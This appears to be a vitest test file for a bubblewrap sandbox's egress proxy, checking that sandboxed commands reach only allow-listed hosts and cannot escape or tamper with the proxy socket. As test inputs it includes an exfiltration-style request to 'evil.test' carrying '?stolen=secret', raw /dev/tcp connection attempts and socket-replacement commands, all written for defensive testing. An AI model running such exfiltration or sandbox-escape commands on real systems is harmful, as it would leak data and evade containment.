import { statSync } from 'node:fs'
import { beforeAll, describe, expect, test } from 'vitest'
import type { Sandbox } from '../../domain/ports/sandbox.ts'
import { judgeOf, openDoor, plainUpstream, SHARED_KEY, tlsUpstream } from '../support/egress.ts'
import { bubblewrap } from '../support/programs.ts'
import { ran, temporaryFolder } from '../support/sandboxed.ts'

let sandbox: Sandbox
beforeAll(async () => {
  sandbox = await bubblewrap()
})

/** Asks for a URL through the proxy the environment names, as curl would; prints status and body. */
const FETCHING = `node -e '
const proxy = new URL(process.env.http_proxy)
const request = require("http").request({ host: proxy.hostname, port: proxy.port, path: process.env.WANTED, agent: false })
request.on("error", (error) => console.log(error.code))
request.on("response", async (response) => console.log(response.statusCode, String(await response.toArray())))
request.end()'`

/** Opens a TLS tunnel through it. */
const TUNNELLING = `node -e '
const proxy = new URL(process.env.https_proxy)
const request = require("http").request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: process.env.WANTED, agent: false })
request.on("connect", (response, socket) => {
  if (response.statusCode !== 200) return console.log(response.statusCode)
  const pskCallback = () => ({ psk: Buffer.from(process.env.KEY, "hex"), identity: "test" })
  const settings = { ciphers: "PSK", maxVersion: "TLSv1.2", checkServerIdentity: () => undefined }
  require("tls").connect({ socket, servername: process.env.WANTED.split(":")[0], pskCallback, ...settings }).pipe(process.stdout)
})
request.end()'`

const KEY = SHARED_KEY.toString('hex')

describe('a command with a way out', () => {
  test('reaches a listed host by TLS and by plain http', async () => {
    const [tls, plain] = [await tlsUpstream(), await plainUpstream()]
    const door = await openDoor(judgeOf([`registry.test:${tls.port}`, `mirror.test:${plain.port}`]))
    const proxy = door.socket
    const tunnel = await ran(sandbox, TUNNELLING, {
      proxy,
      environment: { WANTED: `registry.test:${tls.port}`, KEY },
    })
    expect(tunnel).toMatchObject({ exitCode: 0, stdout: 'greetings', stderr: '' })
    const request = await ran(sandbox, FETCHING, {
      proxy,
      environment: { WANTED: `http://mirror.test:${plain.port}/package` },
    })
    expect(request).toMatchObject({ exitCode: 0, stdout: '200 path /package\n', stderr: '' })
  })

  test('is refused any other host, which is told', async () => {
    const { port, received } = await plainUpstream()
    const door = await openDoor(judgeOf([`registry.test:${port}`]))
    const environment = { WANTED: `http://evil.test:${port}/?stolen=secret` }
    const { stdout } = await ran(sandbox, FETCHING, { proxy: door.socket, environment })
    expect(stdout).toMatch(/^403 evil\.test:\d+ refused: not on the list of allowed hosts/)
    expect(received).toEqual([])
    expect(door.takeRefused()).toEqual([
      { what: 'egress', target: `evil.test:${port} (not on the list of allowed hosts)` },
    ])
  })

  test('finds nothing but the proxy: no interface, no route, no service of the host, no name server', async () => {
    const { port, received } = await plainUpstream()
    const door = await openDoor(judgeOf([`registry.test:${port}`]))
    const script = `
      grep -v -e lo: -e "|" /proc/net/dev; tail -n +2 /proc/net/route
      for address in 127.0.0.1 0.0.0.0; do exec 3<> "/dev/tcp/$address/${port}" && echo escaped; done
      node -e 'require("dns").lookup("registry.test", (error) => console.log(error ? "unknown" : "escaped"))'`
    const { stdout } = await ran(sandbox, script, { proxy: door.socket })
    expect(stdout).toBe('unknown\n')
    expect(received).toEqual([])
  })

  test('can neither take the socket’s place nor make it anew', async () => {
    const door = await openDoor(judgeOf([]))
    const script = 'cd /run/openclaw; ls; rm -f proxy.sock; ln -sf /x proxy.sock; mv proxy.sock other; touch new; ls'
    const { stdout } = await ran(sandbox, script, { proxy: door.socket })
    expect(stdout).toBe('proxy.sock\nproxy.sock\n')
    expect(statSync(door.socket).isSocket()).toBe(true)
  })

  test('ends as it would without: exit code, signal, missing program, output byte for byte, time limit', async () => {
    const { socket: proxy } = await openDoor(judgeOf([]))
    expect(await ran(sandbox, 'cat; echo wrong >&2; exit 7', { proxy, stdin: 'a\0b' })).toMatchObject({
      exitCode: 7,
      stdout: 'a\0b',
      stderr: 'wrong\n',
    })
    expect(await ran(sandbox, 'kill -TERM $$', { proxy })).toMatchObject({ exitCode: 128 + 15 })
    expect(await ran(sandbox, ['no-such-program'], { proxy })).toMatchObject({
      exitCode: 127,
      stderr: 'no-such-program: not found\n',
    })
    const endless = await ran(sandbox, 'trap "" TERM; sleep 60 & wait', { proxy, timeoutMs: 1_500 })
    expect(endless).toMatchObject({ timedOut: true })
    expect(endless.durationMs).toBeLessThan(10_000)
  })
})

test('two tasks have a proxy each: neither sees the other’s', async () => {
  const { port } = await plainUpstream()
  const [one, other] = [await openDoor(judgeOf([`one.test:${port}`])), await openDoor(judgeOf([`other.test:${port}`]))]
  const environment = { WANTED: `http://one.test:${port}/` }
  const workspace = temporaryFolder()
  expect((await ran(sandbox, FETCHING, { workspace, proxy: other.socket, environment })).stdout).toMatch(/^403 /)
  expect((await ran(sandbox, FETCHING, { workspace, proxy: one.socket, environment })).stdout).toBe('200 path /\n')
  expect(one.takeRefused()).toEqual([])
})

test('a command without a way out finds no proxy, and no variable that names one', async () => {
  const script = 'env | grep -ci proxy; ls /run 2>&1; exec 3<> /dev/tcp/127.0.0.1/3128 || echo refused'
  const { stdout } = await ran(sandbox, script)
  expect(stdout).toBe("0\nls: cannot access '/run': No such file or directory\nrefused\n")
})
